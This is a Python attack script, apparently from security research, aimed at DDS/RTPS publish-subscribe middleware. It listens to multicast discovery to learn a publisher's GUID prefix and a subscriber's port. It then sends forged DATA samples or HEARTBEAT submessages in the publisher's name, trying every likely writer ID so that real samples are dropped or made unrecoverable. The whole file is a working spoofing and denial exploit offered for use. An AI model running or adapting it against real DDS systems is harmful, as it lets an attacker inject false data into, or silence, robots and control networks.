"""Attacks on DDS by single datagrams: rtps.py forge|forge-ahead|skip PUBLISHER SUBSCRIBER OWN_ADDRESS.

What they need is announced to everybody by multicast: the publisher's name (GUID) and the subscriber's port. The publisher's writers have numbers
that can be guessed, so all of them are tried.

forge         a sample in the publisher's name, with a far sequence number: the subscriber takes it, and what comes before that number is old
forge-ahead   samples in the publisher's name with all sequence numbers of the next seconds: a reliable subscriber takes them, and the genuine
              ones are repetitions
skip          a heartbeat in the publisher's name: samples before a far sequence number are no longer to be had
"""

import signal
import socket
import struct
import sys
import time
import zlib

ANNOUNCED_AT = ("239.255.0.1", 7400)
DEFAULT_UNICAST_LOCATOR = 0x31
WRITERS = range(1, 1024)
KIND_WRITER_WITHOUT_KEY = 0x03
FAR = 100_000
AHEAD = range(1, 601)
WRITERS_AHEAD = range(1, 9)
BURST = 100
FIRST_FORGED = 1_000_000_000


def listen(address):
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(ANNOUNCED_AT)
    group = socket.inet_aton(ANNOUNCED_AT[0]) + socket.inet_aton(address)
    listener.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
    return listener


def port_in(announcement):
    """The port for data that a participant announces, if this is an announcement."""
    at = 0
    while (at := announcement.find(struct.pack("<HHI", DEFAULT_UNICAST_LOCATOR, 24, 1), at)) >= 0:
        return struct.unpack_from("<I", announcement, at + 8)[0]
    return None


def learn(listener, publisher, subscriber):
    """The publisher's prefix with version and vendor, and the port of the subscriber."""
    header, port = None, None
    while header is None or port is None:
        announcement, (sender, _) = listener.recvfrom(65_535)
        if announcement[:4] == b"RTPS" and sender == publisher:
            header = announcement[:20]
        elif announcement[:4] == b"RTPS" and sender == subscriber:
            port = port or port_in(announcement)
    return header, port


def sequence_number(number):
    return struct.pack("<iI", number >> 32, number & 0xFFFFFFFF)


def writer_id(number):
    return number.to_bytes(3, "big") + bytes([KIND_WRITER_WITHOUT_KEY])


def sample(writer, sequence, number):
    """A DATA submessage to whatever reader listens, as the adapters of DDS serialize a message."""
    body = b"forged"
    payload = b"\x00\x01\x00\x00" + struct.pack("<QII", FIRST_FORGED + number, zlib.crc32(body), len(body)) + body
    payload += bytes(-len(payload) % 4)
    content = struct.pack("<HH", 0, 16) + bytes(4) + writer + sequence_number(sequence) + payload
    return struct.pack("<BBH", 0x15, 0x05, len(content)) + content


def heartbeat(writer, number):
    content = bytes(4) + writer + sequence_number(FAR) + sequence_number(FAR) + struct.pack("<I", 0x7FFF0000 + number)
    return struct.pack("<BBH", 0x07, 0x03, len(content)) + content


def main():
    what, publisher, subscriber, address = sys.argv[1:]
    signal.signal(signal.SIGTERM, lambda *_: sys.exit())
    header, port = learn(listen(address), publisher, subscriber)
    time.sleep(1.5)
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if what == "forge":
        datagrams = [sample(writer_id(writer), FAR + number, number) for number in range(3) for writer in WRITERS]
    elif what == "forge-ahead":
        datagrams = [sample(writer_id(writer), sequence, sequence) for sequence in AHEAD for writer in WRITERS_AHEAD]
    else:
        datagrams = [heartbeat(writer_id(writer), number) for number in range(3) for writer in WRITERS]
    for number, datagram in enumerate(datagrams):
        sender.sendto(header + datagram, (subscriber, port))
        if number % BURST == 0:
            time.sleep(0.01)
    print(f"{what}: {len(datagrams)} datagrams to port {port} in the name of {header[8:].hex()}")


if __name__ == "__main__":
    main()
